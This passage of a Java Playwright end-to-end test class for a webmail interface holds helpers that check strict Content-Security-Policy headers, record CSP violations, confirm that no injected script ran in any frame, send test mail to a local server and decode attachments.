        return page.getByRole(AriaRole.REGION, new Page.GetByRoleOptions().setName("Message").setExact(true))
                .or(page.getByRole(AriaRole.MAIN, new Page.GetByRoleOptions().setName("Message").setExact(true)))
                .or(page.getByRole(AriaRole.COMPLEMENTARY, new Page.GetByRoleOptions().setName("Message")
                        .setExact(true)));
    }

    /**
     * The row (link or button) of the thread list whose accessible name starts with {@code subject} (after any
     * {@code Re:}/{@code Fwd:}).
     */
    private static Locator threadRow(Page page, String subject) {
        // escaped for JavaScript (Playwright matches names in the page: no \Q...\E)
        // the row shows the thread's latest subject: the agent's answer makes it "Re: <subject>"
        Pattern name = Pattern.compile("^\\s*(?:(?:[Rr][Ee]|[Ff][Ww][Dd]?):\\s*)*"
                + subject.replaceAll("[\\\\^$.|?*+()\\[\\]{}]", "\\\\$0"));
        Locator list = threads(page);
        return list.getByRole(AriaRole.LINK, new Locator.GetByRoleOptions().setName(name))
                .or(list.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(name)))
                .or(list.getByRole(AriaRole.ROW, new Locator.GetByRoleOptions().setName(name)))
                .or(list.getByRole(AriaRole.OPTION, new Locator.GetByRoleOptions().setName(name))).first();
    }

    /** The message body's frame (the iframe titled "Message body"). */
    private static Frame bodyFrame(Page page) {
        Frame frame = page.getByTitle("Message body", new Page.GetByTitleOptions().setExact(true)).first()
                .elementHandle().contentFrame();
        assertNotNull(frame, "the Message body iframe has no frame");
        return frame;
    }

    /** Waits until {@code text} shows in the reading pane, as HTML (the Message body frame) or as plain text. */
    private static void awaitBodyShows(Page page, String text) {
        long until = System.currentTimeMillis() + (long) UI_WAIT_MS;
        while (true) {
            Locator iframes = page.getByTitle("Message body", new Page.GetByTitleOptions().setExact(true));
            for (int i = 0; i < iframes.count(); i++) {
                if (iframes.nth(i).contentFrame().getByText(text).count() > 0) {
                    return;
                }
            }
            if (reader(page).getByText(text).count() > 0) {
                return;
            }
            if (System.currentTimeMillis() > until) {
                throw new AssertionError("the reading pane never showed \"" + text + "\"");
            }
            page.waitForTimeout(200);
        }
    }

    private static LocatorAssertions.IsVisibleOptions ui() {
        return new LocatorAssertions.IsVisibleOptions().setTimeout(UI_WAIT_MS);
    }

    /** A text field's value, or a contenteditable's text. */
    private static String fieldText(Locator field) {
        return String.valueOf(field.evaluate("el => 'value' in el ? el.value : el.textContent"));
    }

    private static List<String> recordCspViolations(Page page) {
        List<String> violations = new CopyOnWriteArrayList<>();
        page.onConsoleMessage(m -> {
            if (m.text().contains("Content Security Policy")) {
                violations.add(m.text());
            }
        });
        page.addInitScript("document.addEventListener('securitypolicyviolation', e => console.error("
                + "'Content Security Policy violation: ' + e.violatedDirective + ' ' + e.blockedURI));");
        return violations;
    }

    /** No dialog opened and no frame of the page has the marker the hostile scripts set. */
    private static void assertNothingRan(Page page, List<String> dialogs) {
        assertEquals(List.of(), dialogs, "dialogs opened by the message's scripts");
        // Playwright evaluates in sandboxed frames too (its own access, not the page's scripts)
        for (Frame f : page.frames()) {
            Object pwned = f.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)");
            assertEquals(null, pwned, "script ran in frame " + f.url());
        }
    }

    private static void assertNoHorizontalScroll(Page page) {
        Object widths = page.evaluate("() => [document.documentElement.scrollWidth, window.innerWidth]");
        List<?> w = (List<?>) widths;
        assertTrue(((Number) w.get(0)).intValue() <= ((Number) w.get(1)).intValue(),
                "page wider than the screen: scrollWidth " + w.get(0) + " > " + w.get(1));
    }

    private static void assertStrictCsp(HttpResponse<?> r) {
        String where = r.request().method() + " " + r.request().uri().getPath() + " " + r.statusCode();
        Map<String, String> csp = csp(r.headers().firstValue("Content-Security-Policy").orElse(""));
        assertEquals("'self'", csp.get("default-src"), where + " CSP " + csp);
        assertEquals("'self'", csp.get("script-src"), where + " CSP " + csp);
        assertEquals("'self'", csp.get("style-src"), where + " CSP " + csp);
        assertEquals("'none'", csp.get("object-src"), where + " CSP " + csp);
        assertEquals("'none'", csp.get("base-uri"), where + " CSP " + csp);
        assertEquals("'none'", csp.get("frame-ancestors"), where + " CSP " + csp);
        assertEquals("'self'", csp.get("form-action"), where + " CSP " + csp);
        assertEquals("nosniff", r.headers().firstValue("X-Content-Type-Options").orElse(null), where);
        assertEquals("no-referrer", r.headers().firstValue("Referrer-Policy").orElse(null), where);
        assertEquals("same-origin", r.headers().firstValue("Cross-Origin-Opener-Policy").orElse(null), where);
    }

    /** A Content-Security-Policy as directive → its source list (one space between sources). */
    private static Map<String, String> csp(String header) {
        Map<String, String> out = new LinkedHashMap<>();
        for (String directive : header.split(";")) {
            String[] parts = directive.trim().split("\\s+", 2);
            if (!parts[0].isEmpty()) {
                out.put(parts[0].toLowerCase(Locale.ROOT), parts.length > 1 ? parts[1].trim().replaceAll("\\s+", " ")
                        : "");
            }
        }
        return out;
    }

    private static String describe(List<Cookie> cookies) {
        List<String> out = new ArrayList<>();
        for (Cookie c : cookies) {
            out.add(c.name + " (httpOnly=" + c.httpOnly + ", sameSite=" + c.sameSite + ", path=" + c.path
                    + ", secure=" + c.secure + ")");
        }
        return out.toString();
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Mail and the api
    // ---------------------------------------------------------------------------------------------------------------

    private void swaks(String to, String subject, String messageId, String body) throws Exception {
        Stack.Result sent = Stack.run(List.of("swaks", "--server", "127.0.0.1:" + stack.smtpPort,
                "--from", "tester@example.org", "--to", to, "--header", "Subject: " + subject,
                "--header", "Message-Id: <" + messageId + "@e2e.example>", "--body", body, "--timeout", "60"),
                Map.of(), Duration.ofSeconds(90));
        assertEquals(0, sent.exitCode(), sent.output());
    }

    /** The id of the mailbox of {@code address}, once mail for it has arrived. */
    private String mailboxOf(String address) {
        return await().atMost(WITHIN).pollInterval(Duration.ofMillis(500)).ignoreExceptions().until(() -> {
            for (JsonNode m : json("GET", "/v1/mailboxes?limit=200", null).get("items")) {
                if (address.equals(m.get("address").asText())) {
                    return m.get("id").asText();
                }
            }
            return null;
        }, id -> id != null);
    }

    /** The thread list item of {@code threadId} in {@code mailbox} (the API's view behind the row). */
    private JsonNode listItem(String mailbox, String threadId) throws Exception {
        for (JsonNode t : json("GET", "/v1/threads?mailbox=" + mailbox, null).get("items")) {
            if (threadId.equals(t.get("id").asText())) {
                return t;
            }
        }
        return JSON.createObjectNode();
    }

    private JsonNode json(String method, String path, String body) throws Exception {
        HttpResponse<byte[]> r = stack.api(method, path, body);
        String text = new String(r.body(), StandardCharsets.UTF_8);
        assertTrue(r.statusCode() / 100 == 2, method + " " + path + ": " + r.statusCode() + " " + text);
        return JSON.readTree(text);
    }

    /** {@code method path} on the api without the bootstrap key, with {@code headers} (a cookie, say). */
    private HttpResponse<String> http(String method, String path, String body, Map<String, String> headers)
            throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base() + path)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(body));
        headers.forEach(request::header);
        return HttpClient.newHttpClient().send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The decoded bytes of the MIME part named {@code filename} in a message as smtp-sink dumped it. */
    static byte[] attachment(String dumped, String filename) {
        // the part's boundary line, its header lines (one of them names the file), a blank line, the content
        Matcher part = Pattern.compile("(?s)\\r?\\n--(\\S+)\\r?\\n((?:[^\\r\\n]+\\r?\\n)*?[^\\r\\n]*name[^\\r\\n]*"
                + Pattern.quote(filename) + "[\\s\\S]*?)\\r?\\n\\r?\\n(.*?)\\r?\\n--\\1").matcher(dumped);
        assertTrue(part.find(), "no part named " + filename + " in:\n" + dumped.substring(0, Math.min(3000,
                dumped.length())));
        String headers = part.group(2).toLowerCase(Locale.ROOT);
        String content = part.group(3);
        if (headers.contains("content-transfer-encoding: base64")) {
            return Base64.getMimeDecoder().decode(content);
        }
        if (headers.contains("quoted-printable")) {
            return EchoEndToEndIT.decodeQuotedPrintable(content).getBytes(StandardCharsets.ISO_8859_1);
        }
        return content.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    @Override
    public void close() {
        if (chromium != null) {
            chromium.close();
        }
    }
}
